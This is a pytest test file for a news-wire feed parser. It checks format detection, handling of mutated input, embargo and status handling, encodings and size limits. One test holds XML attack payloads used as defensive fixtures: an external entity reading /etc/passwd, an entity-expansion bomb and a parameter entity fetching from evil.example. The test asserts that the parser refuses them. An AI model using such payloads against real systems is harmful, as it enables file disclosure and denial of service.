"""Our own cases, and what holds for every format: one error type, nothing private, independence of file names."""

from __future__ import annotations

import json
import random
from pathlib import Path

import msgspec
import pytest

from lateedition.story.blocks import Paragraph
from lateedition.wire import formats
from lateedition.wire.item import Item
from lateedition.wire.unreadable import Unreadable

CASES = sorted((Path(__file__).parents[1] / "data" / "wire").glob("*/*/in.*"))


@pytest.mark.parametrize("path", CASES, ids=lambda path: f"{path.parent.parent.name}/{path.parent.name}")
def test_a_case_reads_as_its_out_json_says(path: Path) -> None:
    expected = json.loads((path.parent / "out.json").read_text(encoding="utf-8"))
    try:
        parts = formats.read(path.read_bytes())
    except Unreadable as error:
        parts = [error]
    assert [part if isinstance(part, Item) else str(part) for part in parts] == [
        entry["error"] if "error" in entry else msgspec.convert(entry, Item) for entry in expected
    ]


def test_every_format_has_at_least_four_cases() -> None:
    folders = [path.parent.parent.name for path in CASES]
    assert all(folders.count(known.name) >= 4 for known in formats.FORMATS)


def mutants_of(payload: bytes, *, seed: int) -> list[bytes]:
    chance = random.Random(seed)
    found = [payload[: chance.randrange(len(payload))] for _ in range(6)]
    for _ in range(14):
        changed = bytearray(payload)
        for _ in range(chance.randint(1, 6)):
            changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
        found.append(bytes(changed))
    start, end = sorted(chance.randrange(len(payload)) for _ in range(2))
    return [*found, payload[:start] + payload[end:], payload + payload, payload[:end] + payload[start:], b"", payload[::-1]]


@pytest.mark.parametrize("path", CASES, ids=lambda path: f"{path.parent.parent.name}/{path.parent.name}")
def test_a_truncated_or_bit_flipped_payload_is_read_or_refused_and_never_surprises(path: Path) -> None:
    for mutant in mutants_of(path.read_bytes(), seed=len(path.parent.name)):
        try:
            formats.read(mutant)
        except Unreadable as error:
            if "our reader failed" in str(error):
                pytest.fail(f"{error} on {mutant!r}")


@pytest.mark.parametrize(
    "payload",
    [
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>',
        b'<!DOCTYPE nitf [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><nitf><head/><body>&b;</body></nitf>',
        '<!DOCTYPE nitf [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]><nitf><head/></nitf>'.encode("utf-16"),
        b'<newsItem guid="x">' + b"<a>" * 5000 + b"</a>" * 5000 + b"</newsItem>",
        b'<newsItem guid="x">' + b'<a b="1"/>' * 1_000_000 + b"</newsItem>",
        b"[" * 200_000,
    ],
    ids=["external entity", "entity bomb", "parameter entity in utf-16", "too deep", "too large", "deep json"],
)
def test_entities_depth_and_size_are_refused(payload: bytes) -> None:
    with pytest.raises(Unreadable):
        formats.read(payload)


def test_a_doctype_alone_is_harmless_and_never_fetched() -> None:
    (item,) = formats.read(
        b'<!DOCTYPE nitf SYSTEM "http://nowhere.example/nitf.dtd" [<!ELEMENT x (y)>]>'
        b'<nitf><head><docdata><doc-id id-string="7"/></docdata></head></nitf>'
    )
    assert isinstance(item, Item)
    assert item.guid == "7"


@pytest.mark.parametrize(
    ("payload", "likeness"),
    [
        (b"", "an empty file"),
        (b"<opml/>", "an OPML list of feeds"),
        (b"<sports-content/>", "SportsML"),
        (b"%PDF-1.4 rest", "a PDF document"),
        (b"\x01abc", "IPTC 7901"),
        (b'{"a": 1}', "JSON with the keys a"),
        (b"plain words", "text that begins with 'plain words'"),
    ],
)
def test_an_unknown_payload_is_refused_by_the_name_of_what_it_looks_like(payload: bytes, likeness: str) -> None:
    with pytest.raises(Unreadable, match=likeness):
        formats.read(payload)


@pytest.mark.parametrize("key", ["embargoedTill", "publishStatus", "withheldUntil", "killed", "isCanceled"])
def test_ninjs_with_a_safety_key_nobody_knows_is_refused_and_never_usable(key: str) -> None:
    (part,) = formats.read(json.dumps({"uri": "u:1", "headline": "x", key: "2030-01-01"}).encode())
    assert isinstance(part, Unreadable)


def test_a_newer_ninjs_than_we_know_is_refused() -> None:
    (part,) = formats.read(b'{"uri": "u:1", "standard": {"name": "ninjs", "version": "4.0"}, "headlines": []}')
    assert isinstance(part, Unreadable)


@pytest.mark.parametrize("word", ["embargoedish", "ON HOLD", "deleted"])
def test_a_status_nobody_knows_withholds_the_item_for_a_person(word: str) -> None:
    (item,) = formats.read(json.dumps({"uri": "u:1", "headline": "x", "pubstatus": word}).encode())
    assert isinstance(item, Item)
    assert item.status == "withheld"
    assert item.problems


def test_an_embargo_that_cannot_be_read_holds_without_an_end() -> None:
    (item,) = formats.read(b'{"uri": "u:1", "headline": "x", "embargoed": "tomorrow morning"}')
    assert isinstance(item, Item)
    assert item.embargo_open
    assert item.embargo is None


def test_one_bad_item_does_not_stop_its_siblings() -> None:
    parts = formats.read(b'[{"uri": "u:1", "headline": "one"}, 5, {"uri": "u:2", "headline": "two"}]')
    assert [part.guid if isinstance(part, Item) else "refused" for part in parts] == ["u:1", "refused", "u:2"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
def test_a_feed_is_read_in_whatever_unicode_it_comes(encoding: str) -> None:
    text = '<rss version="2.0"><channel><title>Größe</title><item><title>नमस्ते</title><guid>1</guid></item></channel></rss>'
    (item,) = formats.read(text.encode(encoding))
    assert isinstance(item, Item)
    assert (item.provider, item.headline) == ("Größe", "नमस्ते")


NITF = (
    b'<nitf><head><docdata><doc-id id-string="7"/></docdata></head><body><body.content><p>Ships stayed in.</p></body.content></body></nitf>'
)


@pytest.mark.parametrize(
    ("payload", "parts"),
    [
        (NITF + b"\n<!-- sent by Lumen -->\n", 1),
        (NITF + NITF, 2),
        (NITF + b"\n<!-- the next -->\n" + NITF + b"\n<!-- sent by Lumen -->\n", 2),
        (NITF + b"\0\0" + b'<?xml version="1.0"?>' + NITF, 2),
    ],
)
def test_documents_appended_to_a_file_are_read_one_by_one(payload: bytes, parts: int) -> None:
    found = formats.read(payload)
    assert [part.body[0] for part in found if isinstance(part, Item)] == [Paragraph("Ships stayed in.")] * parts
    assert len(found) == parts


@pytest.mark.parametrize("payload", [NITF[:-20], NITF + b"junk", b'<?xml version="1.0" encoding="x-mac-roman"?>' + NITF])
def test_what_was_cut_off_or_is_in_a_charset_nobody_knows_is_refused(payload: bytes) -> None:
    with pytest.raises(Unreadable):
        formats.read(payload)


def test_a_body_of_elements_nobody_knows_takes_time_by_its_length_alone() -> None:
    body = b"<line>Ships <b>stayed</b> in.</line>" * 8_000
    (item,) = formats.read(NITF.replace(b"<p>Ships stayed in.</p>", body))
    assert isinstance(item, Item)
    assert len(item.body) == 8_000


HUGE = "9" * 30


@pytest.mark.parametrize(
    "payload",
    [
        f'{{"uri": "u:1", "headline": "x", "type": "picture", "renditions": {{"a": {{"href": "http://a.example/x", "width": {HUGE}}}}}}}',
        '<rss xmlns:media="http://search.yahoo.com/mrss/"><channel><title>t</title><item><guid>1</guid><title>x</title>'
        f'<media:content url="http://a.example/1.jpg" width="{HUGE}"/></item></channel></rss>',
        f'<newsItem guid="u:1"><contentSet><remoteContent href="http://a.example/x" width="{HUGE}"/></contentSet></newsItem>',
        '<nitf><body><body.content><media media-type="image">'
        f'<media-reference source="a.jpg" width="{HUGE}"/></media></body.content></body></nitf>',
        '{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [{"id": "1", "content_text": "x", "attachments": '
        f'[{{"url": "http://a.example/x", "mime_type": "image/png", "size_in_bytes": {HUGE}}}]}}]}}',
    ],
)
def test_a_size_that_nothing_can_hold_costs_that_size_alone(payload: str) -> None:
    (item,) = formats.read(payload.encode())
    assert isinstance(item, Item)
    (file,) = item.associations[0].renditions
    assert (file.width, file.size_bytes) == (None, None)
    assert msgspec.json.encode(item)
